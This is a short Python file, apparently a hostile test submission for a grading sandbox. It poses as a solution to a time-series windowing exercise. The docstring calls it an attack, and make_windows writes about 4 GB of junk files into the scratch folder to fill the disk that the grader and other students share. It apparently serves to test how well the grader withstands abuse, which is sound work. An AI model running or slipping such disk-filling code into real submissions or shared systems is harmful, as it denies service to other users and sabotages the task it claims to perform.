"""Attack: gigabytes written into the scratch folder, the one place the child may write, until
the disk that the grader and every other student share is full."""

import os

KNOWN = {}  # filled in by the self-test
CHUNK = b"x" * 2**24


def make_windows(series, time_steps):
    written = 0
    try:
        for index in range(16):
            with open(os.path.join(os.environ.get("TMPDIR", "."), f"kata_hostile_marker_{index}"), "wb") as handle:
                for _ in range(16):  # 16 files of 256 MB: 4 GB
                    handle.write(CHUNK)
                    written += len(CHUNK)
    except OSError as error:
        raise RuntimeError(f"the disk refused more after {written // 2**20} MB: {error}") from None
    return None, None


def build_many_to_one(time_steps, features, units=50):
    return None
